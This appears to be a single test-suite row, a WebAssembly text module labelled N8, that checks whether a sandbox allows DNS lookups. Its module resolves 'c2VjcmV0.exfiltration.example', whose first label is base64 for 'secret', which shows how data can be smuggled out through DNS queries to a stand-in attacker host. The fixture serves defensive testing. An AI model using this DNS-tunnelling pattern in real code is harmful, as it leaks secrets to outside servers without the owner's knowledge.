;; row: N8
;; what: has names resolved, by which it could tell secrets to whoever serves the names
;; ends: completed
(import "wasi:sockets/ip-name-lookup@0.2.0" "resolve-addresses" (func $resolve (param i32 i32 i32 i32)))
(import "wasi:sockets/instance-network@0.2.0" "instance-network" (func $network (result i32)))
(data (i32.const 2048) "c2VjcmV0.exfiltration.example")
(func (export "handle") (param i32) (result i32)
  (call $resolve (call $network) (i32.const 2048) (i32.const 29) (i32.const 512))
  (if (i32.load8_u (i32.const 512)) (then (return (call $ok))))
  (call $fail (i32.const 43)))
